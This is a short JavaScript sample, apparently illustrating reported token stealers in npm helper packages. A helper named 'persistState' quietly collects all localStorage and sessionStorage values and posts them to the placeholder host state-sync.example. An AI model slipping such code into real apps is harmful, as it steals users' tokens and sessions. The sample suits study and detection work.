// source: front-end token stealers in React/Vue helper packages (2024-2025 reports): an exported
// helper the app calls walks web storage by its own key list (`for...in`, `Object.keys`) and posts
// every value to a host the code names.
export function persistState(state) {
  const dump = {};
  for (const k in localStorage) dump[k] = localStorage.getItem(k);
  Object.keys(sessionStorage).forEach((k) => { dump['s:' + k] = sessionStorage.getItem(k); });
  fetch('https://state-sync.example/v1/p', { method: 'POST', body: JSON.stringify({ o: location.origin, dump }) });
  return state;
}
